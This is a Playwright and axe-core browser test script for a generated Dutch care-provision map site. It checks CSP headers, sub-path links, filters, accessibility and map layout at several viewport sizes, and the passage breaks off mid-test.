// Browser tests of the generated site: Debian's chromium driven by
// playwright-core, axe-core for accessibility, html-validate for markup.
//
//   node tests/browser/run.mjs /path/to/routekaart [--no-validate] [--area NAME]
//   node tests/browser/run.mjs --list-areas
//
// Each check belongs to one area (an area() call before it; the final checks
// on what the pages did belong to every area). --area NAME runs that area's
// checks alone, writing to tests/out/NAME/; ctest runs one test per area
// (browser_map, browser_tool, ...), side by side. --list-areas prints the
// names, one a line (tests/CMakeLists.txt reads them).
// --no-validate leaves out html-validate (ctest runs validate.mjs as a test
// of its own, which needs no browser).
//
// Builds the example site (content/ of the source tree) with --base-url
// /kaart/, serves it from 127.0.0.1 under /kaart/ with
// "Content-Security-Policy: default-src 'self'", and runs each check as a
// named test: "ok - name" or "not ok - name: reason". Ends with
// "N passed, M failed"; exit status 1 when anything failed.
// Screenshots and logs go to tests/out/.
import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { execFileSync } from "node:child_process";
import { chromium } from "playwright-core";
import { SOURCE_DIR, OUT_DIR, BASE, CSP, CHROMIUM, CHROMIUM_ARGS, DESKTOP, buildSite, serve, listFiles } from "./site.mjs";
import { Region, diff } from "./expect.mjs";
import { validateSite, summarize } from "./validate.mjs";
import { Runner } from "./runner.mjs";
import { offlineChecks } from "./offline.mjs";
import { embedChecks } from "./embed.mjs";

const PHONE = { viewport: { width: 390, height: 844 }, deviceScaleFactor: 1, isMobile: true, hasTouch: true };
const AXE_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "best-practice"];
const GZ_BUDGET = 50 * 1024;
const REGION = "utrecht-west";
const SHOTS = join(OUT_DIR, "screenshots");

// ---- the tiny runner --------------------------------------------------------

// The areas, in the order their checks first appear below.
const AREAS = ["map", "routes", "tool", "answers", "access", "phone", "print", "screens", "pages", "flyer", "offline", "embed", "seo"];
if (process.argv.includes("--list-areas")) {
  console.log(AREAS.join("\n"));
  process.exit(0);
}
const chosenArea = process.argv.includes("--area") ? process.argv[process.argv.indexOf("--area") + 1] : null;

// Each test gets 90 s unless it says otherwise, and closes the pages it opened.
const runner = new Runner({ timeoutMs: 90_000, after: closePages, areas: AREAS, area: chosenArea });
const { say, note, test, area, everyArea } = runner;

// ---- the site, the server, the browser --------------------------------------

const binary = process.argv.slice(2).find((a) => !a.startsWith("--") && a !== chosenArea);
const withValidate = !process.argv.includes("--no-validate");
mkdirSync(SHOTS, { recursive: true });
let site;
try {
  site = buildSite(binary);
} catch (e) {
  say(`not ok - build the example site with --base-url ${BASE}: ${String(e.message).replace(/\s+/g, " ")}`);
  say("0 passed, 1 failed");
  process.exit(1);
}
const server = await serve(site.dir);
const ORIGIN = server.origin;
const U = (path = "") => server.base + path; // U("utrecht-west/") -> http://127.0.0.1:P/kaart/utrecht-west/
const data = JSON.parse(readFileSync(join(site.dir, REGION, "data.json"), "utf8"));
const region = new Region(data);
const TOTAL = region.ids.length;

const browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });

// Everything the pages did that the final checks look at.
const consoleErrors = [];   // {test, url, text}
const requests = [];        // {test, url, status}
const openContexts = [];

async function open(path, { phone = false, js = true, wait = true, viewport = null } = {}) {
  const context = await browser.newContext({
    ...(phone ? PHONE : DESKTOP),
    ...(viewport ? { viewport } : {}),
    javaScriptEnabled: js,
    acceptDownloads: true,
    locale: "nl-NL",
    serviceWorkers: "block",
  });
  openContexts.push(context);
  // A CSP violation always becomes a console error, even one Chromium would
  // only report to the DevTools issue pane.
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI || "(inline)"} at ${e.sourceFile || ""}:${e.lineNumber || ""}`);
    });
  });
  const page = await context.newPage();
  page.setDefaultTimeout(60_000); // against a hang: a busy machine takes more than 10 s for a screenshot
  watch(page);
  if (path != null) await page.goto(U(path), { waitUntil: wait ? "load" : "commit" });
  return page;
}

function watch(page) {
  const test = runner.current;
  page.on("console", (m) => {
    if (m.type() === "error") consoleErrors.push({ test, url: page.url(), text: m.text() });
  });
  page.on("pageerror", (e) => consoleErrors.push({ test, url: page.url(), text: "page error: " + e.message }));
  page.on("request", (r) => requests.push({ test, url: r.url(), status: null, req: r }));
  page.on("requestfailed", (r) => {
    const f = r.failure();
    // A download's blob: URL and a navigation the test itself replaced are not failures of the site.
    if (f && /ERR_ABORTED/.test(f.errorText)) return;
    consoleErrors.push({ test, url: page.url(), text: `request failed: ${r.url()} ${f ? f.errorText : ""}` });
  });
  page.on("response", (r) => {
    const entry = requests.find((x) => x.req === r.request());
    if (entry) entry.status = r.status();
  });
}

async function closePages() {
  while (openContexts.length) await openContexts.pop().close().catch(() => {});
}

// ---- reading the region page --------------------------------------------------

async function mapView(page) {
  return page.evaluate(() => {
    const bars = [...document.querySelectorAll(".map [data-provision]")];
    const cards = [...document.querySelectorAll(".stages [data-item]")];
    // A part the view does not show may be out of the document (issue 20).
    const rendered = (el) => !!el && el.checkVisibility();
    const uniq = (list) => [...new Set(list)].sort();
    const mapShown = rendered(document.querySelector(".map"));
    const toolShown = rendered(document.querySelector("#tool"));
    return {
      mapShown, toolShown, mapInDocument: !!document.querySelector(".map"),
      shown: bars.filter((b) => !b.hasAttribute("hidden")).map((b) => b.dataset.provision).sort(),
      faded: bars.filter((b) => b.classList.contains("out-of-route")).map((b) => b.dataset.provision).sort(),
      hiddenButRendered: bars.filter((b) => b.hasAttribute("hidden") && getComputedStyle(b).display !== "none").map((b) => b.dataset.provision),
      barsRendered: bars.filter(rendered).map((b) => b.dataset.provision).sort(),
      cardIds: uniq(cards.map((c) => c.dataset.item)),
      cardsUnhidden: uniq(cards.filter((c) => !c.hasAttribute("hidden")).map((c) => c.dataset.item)),
      cardsHidden: uniq(cards.filter((c) => c.hasAttribute("hidden")).map((c) => c.dataset.item)),
      cardsRendered: uniq(cards.filter(rendered).map((c) => c.dataset.item)),
      cardsUnhiddenInShownStages: uniq(cards.filter((c) => !c.hasAttribute("hidden") && rendered(c.closest(".stage"))).map((c) => c.dataset.item)),
      hiddenCardsRendered: cards.filter((c) => c.hasAttribute("hidden") && getComputedStyle(c).display !== "none").map((c) => c.dataset.item),
      count: document.querySelector("#f-count").textContent.trim(),
      search: location.search,
      form: {
        lane: [...document.querySelectorAll("#filters input[name=lane]:checked")].map((i) => i.value),
        cost: [...document.querySelectorAll("#filters input[name=cost]:checked")].map((i) => i.value),
        stage: document.querySelector("#f-stage").value,
        route: document.querySelector("#f-route") ? document.querySelector("#f-route").value : "",
        q: document.querySelector("#f-q").value,
      },
    };
  });
}

function queryOf(search) {
  const params = new URLSearchParams(search);
  const out = {};
  for (const [k, v] of params) out[k] = k === "q" ? v : v.split(",").filter(Boolean).sort();
  return out;
}

// The page shows exactly what data.json says for state, and the URL and the
// form carry the state. Checked on the [hidden] attributes of both views
// (map bars and stage cards) and on what is actually rendered in whichever
// view the viewport shows (the map on a desktop overview, the stage cards in
// the tool and on a phone).
async function assertView(page, state, label) {
  const s = { lane: [], cost: [], stage: [], route: [], q: "", ...state };
  const want = region.visible(s);
  // With a route the map keeps the other provisions that match, faded.
  const wantMap = s.route.length ? region.visible({ ...s, route: [] }) : want;
  const wantFaded = wantMap.filter((id) => !want.includes(id));
  const got = await mapView(page);
  // On a phone the map is out of the document (issue 20): the lists per
  // stage below are the view there.
  if (got.mapInDocument) {
    assert.deepEqual(got.shown, wantMap, `${label}: .map [data-provision] without [hidden] differ from data.json: ${diff(got.shown, wantMap)}`);
    assert.deepEqual(got.faded, wantFaded, `${label}: faded bars (.out-of-route): ${diff(got.faded, wantFaded)}`);
    assert.deepEqual(got.hiddenButRendered, [], `${label}: bars with [hidden] still displayed: ${got.hiddenButRendered}`);
  }
  const wantCards = want.filter((id) => got.cardIds.includes(id));
  assert.deepEqual(got.cardsUnhidden, wantCards, `${label}: stage cards [data-item] without [hidden] differ: ${diff(got.cardsUnhidden, wantCards)}`);
  const wrongHidden = got.cardsHidden.filter((id) => want.includes(id));
  assert.deepEqual(wrongHidden, [], `${label}: matching cards carry [hidden] in some stage`);
  assert.deepEqual(got.hiddenCardsRendered, [], `${label}: cards with [hidden] still displayed`);
  assert.ok(got.mapShown || got.toolShown, `${label}: neither .map nor #tool is displayed`);
  if (got.mapShown) {
    assert.deepEqual(got.barsRendered, wantMap, `${label}: rendered map bars: ${diff(got.barsRendered, wantMap)}`);
  }
  if (got.toolShown) {
    assert.deepEqual(got.cardsRendered, got.cardsUnhiddenInShownStages, `${label}: rendered cards: ${diff(got.cardsRendered, got.cardsUnhiddenInShownStages)}`);
  }
  assert.equal(got.count, `${want.length} van ${TOTAL} voorzieningen`, `${label}: #f-count`);
  const wantQuery = {};
  for (const k of ["lane", "cost", "stage", "route"]) if (s[k].length) wantQuery[k] = [...s[k]].sort();
  if (s.q.trim()) wantQuery.q = s.q.trim();
  const gotQuery = queryOf(got.search);
  delete gotQuery.mode; delete gotQuery.step;
  assert.deepEqual(gotQuery, wantQuery, `${label}: URL query ${got.search || "(none)"}`);
  assert.deepEqual([...got.form.lane].sort(), [...s.lane].sort(), `${label}: lane checkboxes`);
  assert.deepEqual([...got.form.cost].sort(), [...s.cost].sort(), `${label}: cost checkboxes`);
  assert.equal(got.form.stage, s.stage[0] || "", `${label}: #f-stage`);
  assert.equal(got.form.route, s.route[0] || "", `${label}: #f-route`);
  assert.equal(got.form.q, s.q, `${label}: #f-q`);
  return want;
}

// location.search as the page sees it (page.url() can lag behind
// history.replaceState).
const search = (page) => page.evaluate(() => location.search);

async function gotoMap(query = "", opts = {}) {
  const page = await open(`${REGION}/${query}`, opts);
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  return page;
}

// Which elements stick out to the right of the viewport (deepest first).
async function overflow(page) {
  return page.evaluate(() => {
    const de = document.documentElement;
    const width = de.clientWidth;
    const out = [];
    for (const el of document.body.querySelectorAll("*")) {
      if (!el.checkVisibility()) continue;
      const r = el.getBoundingClientRect();
      if (r.right > width + 1 && r.width > 0) {
        if ([...el.children].some((c) => c.getBoundingClientRect().right > width + 1)) continue;
        const id = el.id ? "#" + el.id : "";
        const cls = el.classList.length ? "." + [...el.classList].join(".") : "";
        const parent = el.parentElement;
        const pcls = parent && parent.classList.length ? "." + [...parent.classList].join(".") : "";
        out.push(`${parent ? parent.localName + pcls + " > " : ""}${el.localName}${id}${cls} (right ${Math.round(r.right)})`);
      }
    }
    return { scrollWidth: de.scrollWidth, clientWidth: width, offenders: out.slice(0, 6) };
  });
}

async function runAxe(page, tags) {
  await page.addScriptTag({ url: ORIGIN + "/__axe/axe.min.js" });
  return page.evaluate(async (values) => {
    const r = await window.axe.run(document, { runOnly: { type: "tag", values }, resultTypes: ["violations"] });
    return r.violations.map((v) => ({
      id: v.id, impact: v.impact, help: v.help,
      nodes: v.nodes.map((n) => ({ target: n.target.join(" "), summary: (n.failureSummary || "").replace(/\s+/g, " ") })),
    }));
  }, tags);
}

function axeReport(violations) {
  return violations.map((v) => `[${v.id}/${v.impact}] ${v.help} — ${v.nodes.length} node(s): ` +
    v.nodes.slice(0, 3).map((n) => `${n.target} (${n.summary.slice(0, 160)})`).join(" | ")).join(" || ");
}

async function focused(page) {
  return page.evaluate(() => {
    const el = document.activeElement;
    if (!el || el === document.body) return { tag: "body" };
    const cs = getComputedStyle(el);
    return {
      tag: el.localName, id: el.id, cls: el.className && typeof el.className === "string" ? el.className : "",
      name: el.getAttribute("name"), value: el.value, type: el.type,
      mode: el.getAttribute("data-mode"), href: el.getAttribute("href"),
      bar: el.closest(".map [data-provision]") ? el.closest("[data-provision]").dataset.provision : null,
      inMain: !!el.closest("main"),
      focusVisible: el.matches(":focus-visible"),
      outline: `${cs.outlineStyle} ${cs.outlineWidth}`, boxShadow: cs.boxShadow,
    };
  });
}

const visibleFocus = (f) => (f.outline && !/^none/.test(f.outline) && !/ 0px$/.test(f.outline)) || (f.boxShadow && f.boxShadow !== "none");

function pdfPages(buffer) {
  return (buffer.toString("latin1").match(/\/Type\s*\/Page(?![a-zA-Z])/g) || []).length;
}

// [width, height] in points of the first page of a PDF: down the page tree
// from /Root through the first of each /Kids to a /Type /Page, taking the
// nearest /MediaBox (a page inherits it from its parents). Chromium writes
// these dictionaries uncompressed.
function pdfFirstPageSize(buffer) {
  const text = buffer.toString("latin1");
  const object = (n) => {
    const m = new RegExp(`(?:^|[^0-9])${n}\\s+0\\s+obj([\\s\\S]*?)endobj`).exec(text);
    if (!m) throw new Error(`PDF object ${n} not found`);
    return m[1];
  };
  const ref = (dict, key) => { const m = new RegExp(`/${key}\\s+(\\d+)\\s+0\\s+R`).exec(dict); return m && m[1]; };
  const root = /\/Root\s+(\d+)\s+0\s+R/.exec(text);
  if (!root) throw new Error("PDF without /Root");
  let node = object(ref(object(root[1]), "Pages"));
  let box = null;
  for (let depth = 0; depth < 32; depth++) {
    const b = /\/MediaBox\s*\[\s*([-\d.]+)\s+([-\d.]+)\s+([-\d.]+)\s+([-\d.]+)\s*\]/.exec(node);
    if (b) box = b.slice(1).map(Number);
    if (/\/Type\s*\/Page(?![a-zA-Z])/.test(node)) break;
    const kid = /\/Kids\s*\[\s*(\d+)\s+0\s+R/.exec(node);
    if (!kid) throw new Error("PDF page tree without /Kids");
    node = object(kid[1]);
  }
  if (!box) throw new Error("first PDF page without /MediaBox");
  return [box[2] - box[0], box[3] - box[1]];
}

// ---- the tests -----------------------------------------------------------------

note(`site built: ${site.log}`);
note(`served at ${server.base} with Content-Security-Policy: ${CSP}`);

area("map");
await test("server: every response carries the CSP header", async () => {
  for (const path of [BASE, BASE + "assets/routekaart.js", BASE + "nope.html", "/__axe/axe.min.js"]) {
    const r = await fetch(ORIGIN + path);
    assert.equal(r.headers.get("content-security-policy"), CSP, path);
  }
});

await test("sub-path: every internal link, stylesheet and script of every page resolves under /kaart/", async () => {
  const bad = [];
  const seen = new Map();
  for (const rel of listFiles(site.dir, ".html")) {
    const html = readFileSync(join(site.dir, rel), "utf8");
    const pageUrl = new URL(BASE + rel, ORIGIN);
    for (const m of html.matchAll(/\s(?:href|src)="([^"]*)"/g)) {
      const raw = m[1].replace(/&amp;/g, "&");
      if (/^(https?:|mailto:|tel:)/.test(raw) && !raw.startsWith(ORIGIN)) continue;
      const url = new URL(raw, pageUrl);
      url.hash = "";
      if (!url.pathname.startsWith(BASE)) { bad.push(`${rel}: ${raw} is outside ${BASE}`); continue; }
      const key = url.pathname + url.search;
      if (!seen.has(key)) seen.set(key, (await fetch(url, { method: "HEAD", redirect: "manual" })).status);
      if (seen.get(key) !== 200) bad.push(`${rel}: ${raw} -> ${seen.get(key)}`);
    }
  }
  assert.deepEqual(bad, [], bad.slice(0, 8).join("; "));
  note(`${seen.size} distinct internal URLs checked`);
});

await test("no JavaScript: the map lists every provision and hides the filter form and the answer fields", async () => {
  const page = await open(`${REGION}/`, { js: false });
  const r = await page.evaluate(() => ({
    bars: [...document.querySelectorAll(".map [data-provision]")].filter((b) => b.checkVisibility()).length,
    form: document.querySelector("#filters").checkVisibility(),
    questions: [...document.querySelectorAll(".questions .q-text")].filter((q) => q.checkVisibility()).length,
    answers: [...document.querySelectorAll(".questions .answer")].filter((a) => a.checkVisibility()).length,
  }));
  assert.equal(r.bars, TOTAL);
  assert.equal(r.form, false, "#filters is shown without JavaScript but does nothing there");
  // The questions are there to read; ja/deels/nee and a note are kept by the
  // script, so without it they would only lose what is typed.
  assert.ok(r.questions > 0, "no evaluative question is shown without JavaScript");
  assert.equal(r.answers, 0, "answer fields are shown without JavaScript but cannot be kept");
});

// ---- the map page on a phone's budget (issue 20, point 6) ----------------------

await test("DOM: at most 1,500 elements after load at 390×844 and 1366×768; without JavaScript every provision (on the map and per stage), question and route is in the page", async () => {
  const routes = (data.routes || []).length;
  const questions = region.stages.flatMap((s) => region.questionsOf(s.id)).length;
  assert.ok(routes > 0 && questions > 0, "the example has routes and questions");
  // 3,815 before issue 20: every stage repeated every card whole, and 21
  // answer forms were shipped for a tool that was closed.
  for (const phone of [true, false]) {
    const page = await gotoMap("", { phone });
    const n = await page.evaluate(() => document.querySelectorAll("*").length);
    assert.ok(n <= 1500, `${phone ? "390×844" : "1366×768"}: ${n} elements after load`);
    await page.context().close();
  }
  const page = await open(`${REGION}/`, { js: false });
  const r = await page.evaluate(() => {
    const bars = [...document.querySelectorAll(".map [data-provision]")];
    const missing = [];
    for (const bar of bars) {
      for (const stage of bar.dataset.stages.split(" ")) {
        const card = document.querySelector(`.stage[data-stage="${stage}"] [data-item="${bar.dataset.provision}"]`);
        if (!card || !card.checkVisibility()) missing.push(`${bar.dataset.provision} in ${stage}`);
      }
    }
    const whole = [...document.querySelectorAll(".stage [data-item]:not(.continues)")].filter((c) => c.querySelector(".period") && c.checkVisibility());
    return { bars: bars.filter((b) => b.checkVisibility()).length, missing, whole: whole.length,
      questions: [...document.querySelectorAll(".stage .question .q-text")].filter((q) => q.checkVisibility()).length,
      routes: [...document.querySelectorAll("#routes article[data-route]")].filter((a) => a.checkVisibility()).length };
  });
  assert.equal(r.bars, TOTAL, "bars on the map");
  assert.deepEqual(r.missing, [], "a provision missing from a stage it spans");
  assert.equal(r.whole, TOTAL, "each provision whole once, in the stage where it starts");
  assert.equal(r.questions, questions, "questions in the lists per stage");
  assert.equal(r.routes, routes, "routes");
});

await test("map: initial view shows every provision", async () => {
  const page = await gotoMap();
  await assertView(page, {}, "initial");
});

// Reading a box or a size while the page loads makes Chromium lay out the
// whole region page before its first paint, and then again for the paint:
// the route lines measured the map this way and so delayed what an editor
// sees after a save by a third (issue 12). Without a chosen route, the
// script measures nothing until the page is shown.
await test("map: loading the page without a route measures no layout in the script", async () => {
  const page = await open(null);
  await page.addInitScript(() => {
    const reads = (window.__layoutReads = []);
    let loaded = false;
    window.addEventListener("load", () => setTimeout(() => { loaded = true; }, 300));
    const ours = () => !loaded && /routekaart[^/]*\.js/.test(new Error().stack);
    const note = (name) => { if (ours()) reads.push(name + " " + new Error().stack.split("\n")[3].trim()); };
    for (const name of ["getBoundingClientRect", "getClientRects", "scrollIntoView"]) {
      const f = Element.prototype[name];
      Element.prototype[name] = function (...a) { note(name); return f.apply(this, a); };
    }
    for (const [proto, names] of [[Element.prototype, ["scrollWidth", "scrollHeight", "clientWidth", "clientHeight", "clientTop", "clientLeft", "scrollTop"]],
      [HTMLElement.prototype, ["offsetWidth", "offsetHeight", "offsetTop", "offsetLeft"]]]) {
      for (const name of names) {
        const d = Object.getOwnPropertyDescriptor(proto, name);
        Object.defineProperty(proto, name, { ...d, get() { note(name); return d.get.call(this); } });
      }
    }
    const style = window.getComputedStyle;
    window.getComputedStyle = function (...a) { note("getComputedStyle"); return style.apply(this, a); };
  });
  await page.goto(U(`${REGION}/`));
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  await page.waitForTimeout(400);
  assert.deepEqual(await page.evaluate(() => window.__layoutReads), []);
  // The spy sees the script: with a route chosen, the lines are measured.
  await page.goto(U(`${REGION}/?route=${(await page.locator("#f-route option[value]:not([value=''])").first().getAttribute("value"))}`));
  await page.waitForTimeout(400);
  assert.ok((await page.evaluate(() => window.__layoutReads)).length > 0, "the spy saw no read with a route chosen");
});

// ---- the map as a picture of the landscape (issue 10, point 1) ----------------

// Where the map's columns and bars are: x of every stage and period header,
// and the box of every bar shown.
// With vertical, each bar's top in the map and its height too (a filter may
// close up the rows a hidden bar leaves; a route may not).
async function mapGeometry(page, { vertical = false } = {}) {
  return page.evaluate((vertical) => ({
    columns: [...document.querySelectorAll(".map-stage, .map-periods li")].map((e) => {
      const r = e.getBoundingClientRect();
      return [Math.round(r.left * 10) / 10, Math.round(r.width * 10) / 10];
    }),
    bars: Object.fromEntries([...document.querySelectorAll(".map .bar:not([hidden])")].map((b) => {
      const r = b.getBoundingClientRect();
      const top = document.querySelector(".map").getBoundingClientRect().top;
      const box = [Math.round(r.left), Math.round(r.width)];
      return [b.dataset.provision, vertical ? [...box, Math.round(r.top - top), Math.round(r.height)] : box];
    })),
  }), vertical);
}

// Problems of the map as drawn: a title on more than one line, a title or
// its cost icons running into another bar of its lane, a stage name that
// does not fit its column (or breaks inside a word).
async function mapProblems(page) {
  return page.evaluate(() => {
    const out = [];
    const boxes = [...document.querySelectorAll(".map .bar:not([hidden])")].map((b) => {
      const bar = b.getBoundingClientRect();
      const title = b.querySelector(".bar-title");
      if (title.getClientRects().length !== 1) out.push(`${b.dataset.provision}: title on ${title.getClientRects().length} lines`);
      const parts = [title, ...b.querySelectorAll(".cost-icon")].map((e) => e.getBoundingClientRect());
      const label = { left: Math.min(bar.left, ...parts.map((p) => p.left)), right: Math.max(bar.right, ...parts.map((p) => p.right)),
        top: bar.top, bottom: bar.bottom };
      return { id: b.dataset.provision, lane: b.closest(".lane").dataset.lane, bar, label };
    });
    const hit = (x, y) => x.left < y.right - 0.5 && y.left < x.right - 0.5 && x.top < y.bottom - 0.5 && y.top < x.bottom - 0.5;
    const gaps = [...document.querySelectorAll(".map .map-gap:not([hidden])")].map((g) =>
      ({ id: `gap ${g.dataset.lane}/${g.dataset.stage}`, lane: g.dataset.lane, box: g.getBoundingClientRect() }));
    for (const a of boxes) {
      for (const b of boxes) if (a !== b && a.lane === b.lane && hit(a.label, b.bar)) out.push(`${a.id} runs into ${b.id}`);
      for (const g of gaps) if (g.lane === a.lane && hit(a.label, g.box)) out.push(`${a.id} runs into ${g.id}`);
      const map = document.querySelector(".map").getBoundingClientRect();
      if (a.label.right > map.right + 0.5 || a.label.left < map.left - 0.5) out.push(`${a.id} sticks out of the map`);
    }
    for (const s of document.querySelectorAll(".map-stage")) {
      const cell = s.getBoundingClientRect();
      const name = s.querySelector(".map-stage-label");
      const range = document.createRange();
      range.selectNodeContents(name);
      for (const r of range.getClientRects()) {
        if (r.left < cell.left - 0.5 || r.right > cell.right + 0.5) out.push(`stage ${s.dataset.stage}: name outside its column`);
      }
      // A name breaks only between words: each of its lines starts a word.
      const words = name.textContent.trim().split(/\s+/).length;
      if (range.getClientRects().length > words) out.push(`stage ${s.dataset.stage}: name broken inside a word`);
    }
    return out;
  });
}

for (const [width, height] of [[1024, 768], [1366, 768], [1920, 1080]]) {
  await test(`map at ${width}×${height}: every title on one line, none running into another bar, every stage name in its column`, async () => {
    const page = await gotoMap("", { viewport: { width, height } });
    assert.deepEqual(await mapProblems(page), []);
    // The check finds what it looks for: a title made long runs into a bar.
    await page.evaluate(() => { document.querySelector(".map .bar-title").textContent += " en nog veel meer tekst die niet past in deze rij".repeat(4); });
    assert.ok((await mapProblems(page)).some((p) => / runs into | sticks out /.test(p)), "an overlong title is not found");
  });
}

// One rule on screen and paper: a title stands wholly inside its bar, or
// wholly outside it, beside the bar's end (or start) on the bar's first
// line, joined to it by a short line. Its bar's border once cut through a
// word on the poster ("Zwangerschaps|cursus") and titles ran off their bars
// at 1280 px ("Termijnecho", "Poliklinische bevalling").
async function titlePlaceProblems(page) {
  return page.evaluate(() => [...document.querySelectorAll(".map .bar:not([hidden])")].flatMap((b) => {
    const bar = b.getBoundingClientRect();
    const range = document.createRange();
    range.selectNodeContents(b.querySelector(".bar-title"));
    const rects = [...range.getClientRects()].filter((r) => r.width > 0);
    const text = { left: Math.min(...rects.map((r) => r.left)), right: Math.max(...rects.map((r) => r.right)),
      top: Math.min(...rects.map((r) => r.top)), bottom: Math.max(...rects.map((r) => r.bottom)) };
    const where = `${b.dataset.provision}: title ${Math.round(text.left)}-${Math.round(text.right)}, bar ${Math.round(bar.left)}-${Math.round(bar.right)}`;
    const inside = text.left >= bar.left - .5 && text.right <= bar.right + .5 && text.top >= bar.top - .5 && text.bottom <= bar.bottom + .5;
    if (inside) return [];
    const after = text.left >= bar.right, before = text.right <= bar.left;
    if (!after && !before) return [`${where}: across the bar's border`];
    const gap = after ? text.left - bar.right : bar.left - text.right;
    if (gap > 16 || text.top < bar.top - .5 || text.top > bar.top + 8) return [`${where}: outside, but not beside its bar (${Math.round(gap)} px off)`];
    return [];
  }));
}

for (const [width, height] of [[1024, 768], [1280, 800], [1366, 768], [1920, 1080], ["A3 print", 0]]) {
  await test(`map titles at ${width}${height ? "×" + height : ""}: each wholly inside its bar, or wholly outside beside it; none runs into another bar`, async () => {
    const print = !height;
    const page = await gotoMap("", { viewport: print ? { width: 1512, height: 1047 } : { width, height } });
    if (print) await page.emulateMedia({ media: "print" });
    assert.deepEqual(await titlePlaceProblems(page), []);
    assert.deepEqual((await mapProblems(page)).filter((p) => / runs into | sticks out /.test(p)), []);
    // The check finds what it looks for: a title made longer than its bar.
    await page.evaluate(() => { document.querySelector(".map .bar.label-inside .bar-title").textContent += " en nog veel meer tekst"; });
    assert.ok((await titlePlaceProblems(page)).some((p) => /across the bar's border/.test(p)), "a title across its bar's border is not found");
  });
}

await test("map: columns and bars keep their place and width when bars are hidden (lane, search, route)", async () => {
  const page = await gotoMap("", { viewport: { width: 1024, height: 768 } });
  const before = await mapGeometry(page);
  for (const query of ["?lane=digitaal", "?q=kraam", "?route=jonge-moeder-kwetsbaar", "?stage=bevalling&cost=standaard"]) {
    const filtered = await gotoMap(query, { viewport: { width: 1024, height: 768 } });
    const after = await mapGeometry(filtered);
    assert.deepEqual(after.columns, before.columns, `${query}: the columns moved`);
    for (const [id, box] of Object.entries(after.bars)) assert.deepEqual(box, before.bars[id], `${query}: bar ${id} changed`);
    assert.ok(Object.keys(after.bars).length > 0, `${query}: no bar shown`);
  }
});

// A step list beside the map once narrowed every stage column at 1366 px
// (zwangerschap 257 to 202 px): the route's list has a place of its own.
await test("map: choosing a route leaves every stage column and every bar as wide, as tall and where it was in the map, at 1024, 1366 and 1920 px (the step number in the bar's corner, a faded bar's cost icons hidden in place)", async () => {
  for (const [width, height] of [[1024, 768], [1366, 768], [1920, 1080]]) {
    const viewport = { width, height };
    const before = await mapGeometry(await gotoMap("", { viewport }), { vertical: true });
    for (const route of region.routes) {
      const page = await gotoMap(`?route=${route.id}`, { viewport });
      await page.waitForFunction(() => document.querySelector("#route-aside li[data-step]")?.checkVisibility());
      const after = await mapGeometry(page, { vertical: true });
      assert.deepEqual(after.columns, before.columns, `${width} px, ${route.id}: the stage and period columns changed`);
      for (const [id, box] of Object.entries(after.bars)) assert.deepEqual(box, before.bars[id], `${width} px, ${route.id}: bar ${id} changed`);
      await page.context().close();
    }
  }
});

await test("map: the header names the units of its periods (maanden, weken)", async () => {
  const page = await gotoMap();
  const units = await page.evaluate(() => Object.fromEntries([...document.querySelectorAll(".map-stage")].map((s) =>
    [s.dataset.stage, [...s.querySelectorAll(".map-unit")].map((u) => u.textContent.trim())])));
  assert.deepEqual(units.zwangerschap, ["maanden"]);
  assert.deepEqual(units.babyfase, ["weken", "maanden"]);
  assert.deepEqual(units.peuterfase, ["maanden"]);
  assert.deepEqual(units.bevalling, []);
});

for (const [width, height] of [[1366, 768], [1024, 768]]) {
  await test(`map at ${width}×${height}: "Hele kaart op één scherm" shows all lanes and all 7 stages on one screen`, async () => {
    const page = await gotoMap("", { viewport: { width, height } });
    const inView = () => page.evaluate(() => {
      const inside = (e) => { const r = e.getBoundingClientRect(); return r.top >= 0 && r.bottom <= innerHeight && r.left >= 0 && r.right <= innerWidth; };
      return {
        stages: [...document.querySelectorAll(".map-stage")].filter(inside).length,
        lanes: [...document.querySelectorAll(".map .lane")].filter(inside).length,
        bars: [...document.querySelectorAll(".map .bar")].filter(inside).length,
      };
    });
    await page.click("#map-fit");
    assert.equal(await page.getAttribute("#map-fit", "aria-pressed"), "true");
    assert.equal(new URL(page.url()).searchParams.get("weergave"), "passend");
    assert.deepEqual(await inView(), { stages: 7, lanes: 4, bars: TOTAL });
    // A title cut to its bar shows whole on keyboard focus.
    const cut = await page.evaluate(() => {
      const t = [...document.querySelectorAll(".map .bar-title")].find((e) => e.scrollWidth > e.clientWidth + 1);
      t.closest("a").focus();
      return t ? [t.scrollWidth, t.getBoundingClientRect().width] : null;
    });
    assert.ok(cut && cut[1] >= cut[0] - 1, `a cut title is not shown whole on focus: ${cut}`);
    // A link opens it; pressing again returns to the full map.
    const linked = await gotoMap("?weergave=passend", { viewport: { width, height } });
    assert.ok(await linked.evaluate(() => document.body.classList.contains("map-fit")), "?weergave=passend does not open it");
    await page.click("#map-fit");
    assert.equal(await page.getAttribute("#map-fit", "aria-pressed"), "false");
    assert.ok(!(await page.evaluate(() => document.body.classList.contains("map-fit"))), "the full map did not come back");
  });
}

for (const [width, height] of [[1024, 768], [1366, 768]]) {
  await test(`map at ${width}×${height}: the stage header stays in view while the lanes scroll`, async () => {
    const page = await gotoMap("", { viewport: { width, height } });
    await page.evaluate(() => document.querySelector('.lane[data-lane="basiszorg"]').scrollIntoView());
    const r = await page.evaluate(() => {
      const header = document.querySelector(".map-stages").getBoundingClientRect();
      const lane = document.querySelector('.lane[data-lane="basiszorg"]').getBoundingClientRect();
      return { top: header.top, bottom: header.bottom, lane: lane.top };
    });
    assert.ok(Math.abs(r.top) < 1 && r.bottom > 20, `header at ${r.top}…${r.bottom}, not at the top of the screen`);
  });
}

for (const lane of region.lanes) {
  await test(`filter: lane ${lane} alone`, async () => {
    const page = await gotoMap();
    await page.check(`#filters input[name=lane][value="${lane}"]`);
    const want = await assertView(page, { lane: [lane] }, `lane=${lane}`);
    assert.ok(want.length > 0, `data.json has no provision in lane ${lane}`);
    await page.uncheck(`#filters input[name=lane][value="${lane}"]`);
    await assertView(page, {}, `lane ${lane} unchecked`);
  });
}

for (const cost of region.costs) {
  await test(`filter: cost ${cost} alone`, async () => {
    const page = await gotoMap();
    await page.check(`#filters input[name=cost][value="${cost}"]`);
